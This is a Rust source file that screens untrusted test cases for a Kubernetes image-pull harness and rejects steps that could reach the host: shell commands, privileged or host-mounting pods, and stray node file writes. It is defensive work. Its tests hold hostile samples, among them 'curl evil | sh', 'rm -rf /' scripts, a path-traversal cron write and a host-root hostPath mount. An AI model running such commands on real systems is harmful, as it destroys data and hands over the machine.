//! What a case of a stranger could do to the machine that runs it.
//!
//! A kind node is a privileged container: who writes its files, or has a pod with access to it, has the
//! machine. What a pull needs is let through without trust: registries and hosts.toml, secrets and pods
//! without access to the node, the node's Docker credentials, and a credential provider that only prints.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

use super::{
    CaseError, CaseFile,
    model::{Step, Verb},
};

/// Where hosts.toml files lie.
const HOSTS: &str = "/etc/containerd/certs.d/";
/// The node's own Docker credentials, see pkg/credentialprovider/config.go.
const NODE_CREDENTIALS: [&str; 2] = ["/var/lib/kubelet/config.json", "/root/.docker/config.json"];
/// The folder of the harness for a credential provider and its configuration.
const PROVIDER: &str = "/etc/pullproof/";
/// The kubelet's arguments.
const KUBELET: &str = "/etc/default/kubelet";
/// Those of them that a credential provider needs.
const PROVIDER_FLAGS: [&str; 3] = [
    "--runtime-cgroups=/system.slice/containerd.service",
    "--image-credential-provider-config=/etc/pullproof/",
    "--image-credential-provider-bin-dir=/etc/pullproof",
];
/// The kinds that a pull may need.
const KINDS: [&str; 11] = [
    "ConfigMap",
    "CronJob",
    "DaemonSet",
    "Deployment",
    "Job",
    "Namespace",
    "Pod",
    "ReplicaSet",
    "Secret",
    "ServiceAccount",
    "StatefulSet",
];
/// What a pod has of its node, by the keys of its spec, of a security context and of a volume.
const OF_THE_NODE: [&str; 9] = [
    "hostNetwork",
    "hostPID",
    "hostIPC",
    "hostPath",
    "hostPort",
    "privileged",
    "procMount",
    "allowPrivilegeEscalation",
    "capabilities",
];

/// A program that reads its input and prints one text.
static PRINTS: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\A#!/bin/sh\n(cat >/dev/null\n)?echo '[^']*'\n?\z").ok());

impl CaseFile {
    /// Refuses what needs trust in the author of the case.
    ///
    /// # Errors
    /// All of it, each with its line.
    pub fn refuse_what_needs_trust(&self) -> Result<(), CaseError> {
        let mut found = Vec::new();
        for (index, step) in self.steps() {
            let (line, _) = self.place(index).unwrap_or_default();
            let objects = self.objects.get(&index).into_iter().flatten();
            let all = of_step(step).into_iter().chain(objects.filter_map(of_object));
            found.extend(all.map(|what| format!("line {line}: {what}")));
        }
        if found.is_empty() {
            return Ok(());
        }
        let problem = format!(
            "can do more to this machine than pull images:\n  {}\n  if you trust whoever wrote it, pass --trust",
            found.join("\n  ")
        );
        Err(CaseError::at(&self.path, None, problem))
    }
}

fn of_step(step: &Step) -> Vec<String> {
    match &step.verb {
        Verb::Run(step) => {
            let command = step.command.split_whitespace().collect::<Vec<_>>().join(" ");
            vec![format!("runs a command on this machine: {command}")]
        }
        Verb::Patch(patch) => {
            let key = access(&patch.merge).into_iter();
            key.map(|key| format!("patches `{key}` into {}", patch.object)).collect()
        }
        Verb::Node(node) => {
            let files = node.files.iter().filter(|(path, text)| !is_harmless(path, text));
            files.map(|(path, _)| format!("writes {path} on the node")).collect()
        }
        // What is applied is looked at as a whole.
        Verb::Apply(_) | Verb::Expect(_) | Verb::Delete(_) | Verb::Registry(_) => Vec::new(),
    }
}

fn is_harmless(path: &str, text: &str) -> bool {
    if path.split('/').any(|part| part == "..") {
        return false;
    }
    if path == KUBELET {
        return is_for_a_provider(text);
    }
    if path.starts_with(PROVIDER) {
        let is_config = ["{", "apiVersion", "kind"].iter().any(|begin| text.starts_with(begin))
            && text.contains("CredentialProviderConfig");
        return is_config || PRINTS.as_ref().is_some_and(|prints| prints.is_match(text));
    }
    path.starts_with(HOSTS) || NODE_CREDENTIALS.contains(&path)
}

/// Whether the kubelet's arguments are those of a credential provider alone.
fn is_for_a_provider(text: &str) -> bool {
    let Some(value) = text.trim().strip_prefix("KUBELET_EXTRA_ARGS=") else { return false };
    let value = value.trim_matches('"');
    !value.contains(['"', '\'', '\\', '$', '`', ';', '\n'])
        && value.split_whitespace().all(|word| {
            PROVIDER_FLAGS.iter().any(|flag| word.starts_with(flag)) && !word.contains("..")
        })
}

fn of_object(object: &Value) -> Option<String> {
    let kind = object["kind"].as_str().unwrap_or_default();
    let name = object["metadata"]["name"].as_str().unwrap_or_default();
    if !KINDS.contains(&kind) {
        return Some(format!("applies {kind}/{name}"));
    }
    access(object).map(|key| format!("applies {kind}/{name} with `{key}`"))
}

/// The first key, at any depth, by which a pod has something of its node.
fn access(value: &Value) -> Option<String> {
    match value {
        Value::Object(fields) => fields.iter().find_map(|(key, value)| {
            let has = OF_THE_NODE.contains(&key.as_str()) && *value != Value::Bool(false);
            if has { Some(key.clone()) } else { access(value) }
        }),
        Value::Array(all) => all.iter().find_map(access),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;

    fn refused(steps: &str) -> Option<String> {
        let text = format!("title: t\nsource: s\nsteps:\n{steps}\n");
        let file = CaseFile::parse(Path::new("theme/case.yaml"), &text);
        let file = file.unwrap_or_else(|error| panic!("{error}"));
        file.refuse_what_needs_trust().err().map(|error| error.problem)
    }

    const EXPECT: &str = "- apply: {kind: Pod, apiVersion: v1, metadata: {name: z}, spec: {containers: [{name: z, image: z.io/z}]}}\n\
                          - expect: {pod: z, phase: Running, privacyCheck: public}";

    fn pod(spec: &str) -> String {
        format!(
            "- apply: {{kind: Pod, apiVersion: v1, metadata: {{name: a}}, spec: {spec}}}\n{EXPECT}"
        )
    }

    #[test]
    fn a_pull_needs_no_trust() {
        for steps in [
            pod("{containers: [{name: a, image: a.io/a}]}"),
            pod("{hostNetwork: false, containers: [{name: a, image: a.io/a}]}"),
            format!(
                "- node: {{files: {{/etc/containerd/certs.d/a.io/hosts.toml: 'server = \"http://b\"'}}}}\n{EXPECT}"
            ),
            format!("- node: {{files: {{/var/lib/kubelet/config.json: '{{}}'}}}}\n{EXPECT}"),
        ] {
            assert_eq!(refused(&steps), None, "{steps}");
        }
    }

    #[test]
    fn what_reaches_the_machine_is_shown_with_its_line() {
        let problem = refused(&format!("- run: curl evil | sh\n{EXPECT}")).unwrap();
        assert!(
            problem.contains("line 4: runs a command on this machine: curl evil | sh"),
            "{problem}"
        );
        assert!(problem.contains("--trust"), "{problem}");
        for (steps, found) in [
            (pod("{hostPID: true, containers: [{name: a, image: a}]}"), "Pod/a with `hostPID`"),
            (
                pod(
                    "{volumes: [{name: v, hostPath: {path: /}}], containers: [{name: a, image: a}]}",
                ),
                "Pod/a with `hostPath`",
            ),
            (
                pod("{containers: [{name: a, image: a, securityContext: {privileged: true}}]}"),
                "Pod/a with `privileged`",
            ),
            (
                format!("- node: {{files: {{/etc/cron.d/a: x}}}}\n{EXPECT}"),
                "writes /etc/cron.d/a on the node",
            ),
            (
                format!("- patch: {{object: pod/a, merge: {{spec: {{hostIPC: true}}}}}}\n{EXPECT}"),
                "patches `hostIPC` into pod/a",
            ),
            (
                format!(
                    "- apply: {{kind: ClusterRole, apiVersion: rbac.authorization.k8s.io/v1, metadata: {{name: a}}}}\n{EXPECT}"
                ),
                "applies ClusterRole/a",
            ),
        ] {
            let problem = refused(&steps).unwrap_or_default();
            assert!(problem.contains(found), "{problem}");
        }
    }

    #[test]
    fn a_provider_may_print_and_nothing_else() {
        let prints =
            "#!/bin/sh\ncat >/dev/null\necho '{\"kind\":\"CredentialProviderResponse\"}'\n";
        assert!(is_harmless("/etc/pullproof/demo", prints));
        for other in ["#!/bin/sh\nrm -rf /\n", "#!/bin/sh\necho 'a'; rm -rf '/'\n", "\x7fELF"] {
            assert!(!is_harmless("/etc/pullproof/demo", other), "{other}");
        }
        assert!(is_harmless("/etc/pullproof/config.yaml", "kind: CredentialProviderConfig"));
        let script = "#!/bin/sh\n# kind: CredentialProviderConfig\nrm -rf /\n";
        assert!(!is_harmless("/etc/pullproof/config.yaml", script));
        assert!(!is_harmless("/etc/containerd/certs.d/../../cron.d/x", ""));
        let flags = "KUBELET_EXTRA_ARGS=\"--image-credential-provider-config=/etc/pullproof/config.yaml \
                     --image-credential-provider-bin-dir=/etc/pullproof\"";
        assert!(is_harmless(KUBELET, flags));
        assert!(!is_harmless(
            KUBELET,
            "KUBELET_EXTRA_ARGS=\"--image-credential-provider-bin-dir=/bin\""
        ));
        assert!(!is_harmless(KUBELET, "KUBELET_EXTRA_ARGS=\"--config=/tmp/x\""));
    }
}
